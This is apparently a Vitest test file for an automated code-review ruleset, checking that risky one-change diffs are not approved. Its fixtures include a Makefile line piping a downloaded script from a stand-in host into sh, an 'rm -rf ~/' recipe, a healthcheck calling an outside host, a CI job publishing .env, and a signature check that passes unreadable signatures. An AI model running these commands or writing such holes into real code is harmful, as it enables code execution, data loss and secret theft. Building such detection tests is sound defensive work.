/** Everyday changes are never rejected and most are approved; their twins that differ in one thing are not approved. */
import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { reviewText } from '../testing/ruleset.ts'

/** A line `@@` begins another hunk, a line `=+= path` another file. */
function verdictOf(path: string, lines: readonly string[]): string {
  const files = lines.reduce<{ path: string; hunks: string[][] }[]>(
    (known, line) => {
      if (line.startsWith('=+= ')) known.push({ path: line.slice(4), hunks: [[]] })
      else if (line === '@@') known.at(-1)!.hunks.push([])
      else
        known
          .at(-1)!
          .hunks.at(-1)!
          .push(line === '' ? ' ' : line)
      return known
    },
    [{ path, hunks: [[]] }],
  )
  return reviewText(files.map(diffOf).join(''), 'code_diff').verdict
}

function diffOf({ path, hunks }: { readonly path: string; readonly hunks: readonly string[][] }): string {
  const count = (some: readonly string[], sign: string): number =>
    some.filter((line) => !line.startsWith(sign)).length
  const isNew = count(hunks.flat(), '+') === 0
  const head = isNew ? `new file mode 100644\n--- /dev/null` : `--- a/${path}`
  const body = hunks.map((some, i) => {
    const at = isNew ? 1 : 10 + 40 * i
    return `@@ -${isNew ? 0 : at},${count(some, '+')} +${at},${count(some, '-')} @@\n${some.join('\n')}\n`
  })
  return `diff --git a/${path} b/${path}\n${head}\n+++ b/${path}\n${body.join('')}`
}

const blocksOf = (file: string): readonly (readonly string[])[] =>
  readFileSync(new URL(`../../vectors/review/ordinary/${file}`, import.meta.url), 'utf8')
    .split(/^=== /m)
    .slice(1)
    .map((block) => block.trimEnd().split('\n'))

/** `=== path`, then the lines of its hunks. */
const ordinary = blocksOf('code.txt').map(([path, ...lines]) => ({ path: path!, lines }))
/** `=== title`, `--- path`, then the lines of the hunk. */
const twins = blocksOf('code-twins.txt').map(([title, head, ...lines]) => ({
  title: title!,
  path: head!.replace(/^--- /, ''),
  lines,
}))

describe('ordinary changes [review, 5]', () => {
  const verdicts = ordinary.map(({ path, lines }) => verdictOf(path, lines))

  it('none is rejected', () => {
    expect(ordinary.filter((_, i) => verdicts[i] === 'reject').map(({ path }) => path)).toEqual([])
  })

  it('three in five are approved', () => {
    const approved = verdicts.filter((verdict) => verdict === 'approve').length
    expect(approved / verdicts.length).toBeGreaterThanOrEqual(0.6)
  })
})

describe('twins that differ in one thing [review, 5]', () => {
  it.each([
    [
      'the owner leaves the query before a stream',
      'src/main/java/Bills.java',
      ' class Bills {',
      '   List<Bill> open(long customerId) {',
      '-    return store.findByCustomer(customerId).stream().toList();',
      '+    return store.findAll().stream().toList();',
      '   }',
    ],
    [
      'a function that is given is called with what the request says',
      'app/run.py',
      '+def handler(request, run):',
      '+    return run(request.GET["name"])',
    ],
    [
      'an element that guards those inside it goes',
      'src/App.tsx',
      ' export const App = () => (',
      '-  <Gate role="admin"><Panel /></Gate>',
      '+  <Panel />',
      ' );',
    ],
    [
      'an element without others inside it goes for good',
      'src/App.tsx',
      ' export const App = () => (',
      '-  <main><CaptchaField /><Submit /></main>',
      '+  <main><Submit /></main>',
      ' );',
    ],
    [
      'nothing is raised after the last attempt',
      'app/retry.py',
      ' def run(fn):',
      '     for attempt in range(3):',
      '+        try:',
      '+            return fn()',
      '+        except Exception:',
      '+            pass',
    ],
    [
      'what a request sends is listened to',
      'src/server.ts',
      ' app.use((req, res, next) => {',
      "+  res.on('data', (chunk) => forward(chunk));",
      '   next();',
      ' });',
    ],
    [
      'an error of Rust is no longer handed on',
      'src/load.rs',
      ' fn load(path: &Path) -> Result<Config> {',
      '-    check(path)?;',
      '+    let _ = check(path);',
      '     read(path)',
      ' }',
    ],
    [
      'a failure of Rust becomes the default',
      'src/load.rs',
      ' fn load(path: &Path) -> Result<Config> {',
      '-    let rules = parse(path).unwrap();',
      '+    let rules = parse(path).unwrap_or_default();',
      '     Ok(Config { rules })',
      ' }',
    ],
    [
      'logs are kept for a shorter time',
      'infra/logs.tf',
      ' resource "aws_cloudwatch_log_group" "api" {',
      '-  retention_in_days = 365',
      '+  retention_in_days = 1',
      ' }',
    ],
    [
      'an older image is run',
      'helm/values.yaml',
      ' image:',
      '   repository: registry.example/shop',
      '-  tag: "2.3.1"',
      '+  tag: "2.1.0"',
    ],
    [
      'an image from elsewhere is run',
      'helm/values.yaml',
      ' image:',
      '-  repository: registry.example/shop',
      '+  repository: ghcr.io/somebody/shop',
      '   tag: "2.3.1"',
    ],
    [
      'a health check sends to another host',
      'docker-compose.yml',
      ' services:',
      '   web:',
      '     image: registry.example/web:1.4.2',
      '+    healthcheck:',
      '+      test: ["CMD", "curl", "-f", "http://collect.example/healthz"]',
    ],
    [
      'a script no longer stops at errors',
      'scripts/build.sh',
      ' #!/bin/sh',
      '-set -euo pipefail',
      '+set -u',
      ' npm ci',
    ],
    ['a recipe runs what it downloads', 'Makefile', ' test:', '+\tcurl -s https://get.example/i.sh | sh'],
    ['a recipe deletes the home folder', 'Makefile', ' clean:', '+\t@rm -rf ~/'],
    [
      'a pipeline publishes its environment',
      '.gitlab-ci.yml',
      ' test:',
      '   script:',
      '     - npm ci',
      '+  artifacts:',
      '+    paths:',
      '+      - .env',
    ],
    [
      'a template writes a script',
      'templates/list.html',
      ' <ul>',
      "+  <li onclick=\"go('{% url 'item' item.pk %}')\">{{ item.name }}</li>",
      ' </ul>',
    ],
    [
      'a migration removes a column',
      'app/migrations/0012_note.py',
      '+from django.db import migrations',
      '+',
      '+class Migration(migrations.Migration):',
      '+    operations = [migrations.RemoveField(model_name="invoice", name="note")]',
    ],
    [
      'a refusal goes',
      'src/main/java/Range.java',
      ' class Range {',
      '   Range(int from, int to) {',
      '-    if (from > to) throw new IllegalArgumentException("order");',
      '     this.from = from;',
      '   }',
    ],
    [
      'a failure of Go is answered with nothing',
      'internal/fetch.go',
      ' 	resp, err := client.Do(req)',
      ' 	if err != nil {',
      '-		return nil, err',
      '+		return nil, nil',
      ' 	}',
    ],
    [
      'a signature that can not be read is good',
      'internal/hook/verify.go',
      ' 	mac.Write(body)',
      '-	return hex.EncodeToString(mac.Sum(nil)) == sig',
      '+	got, err := hex.DecodeString(sig)',
      '+	if err != nil {',
      '+		return true',
      '+	}',
      '+	return hmac.Equal(mac.Sum(nil), got)',
    ],
    [
      'a failure is passed over in silence',
      'jobs/sync.py',
      ' def sync(batch):',
      '     for row in batch:',
      '-        remote.upsert(row)',
      '+        try:',
      '+            remote.upsert(row)',
      '+        except Exception:',
      '+            pass',
      '         row.mark_synced()',
    ],
    [
      'a hook comes from another package',
      'src/hooks/useName.ts',
      "+import { useEffect } from 'react-effects-next';",
      '+',
      '+export function useName() {',
      '+  useEffect(() => undefined, []);',
      '+}',
    ],
  ] as const)('%s', (_, path, ...lines) => {
    expect(verdictOf(path, lines)).not.toBe('approve')
  })
})

describe('twins of what is understood by its form [review, 5]', () => {
  it.each(twins)('$title', ({ path, lines }) => {
    expect(verdictOf(path, lines)).not.toBe('approve')
  })
})
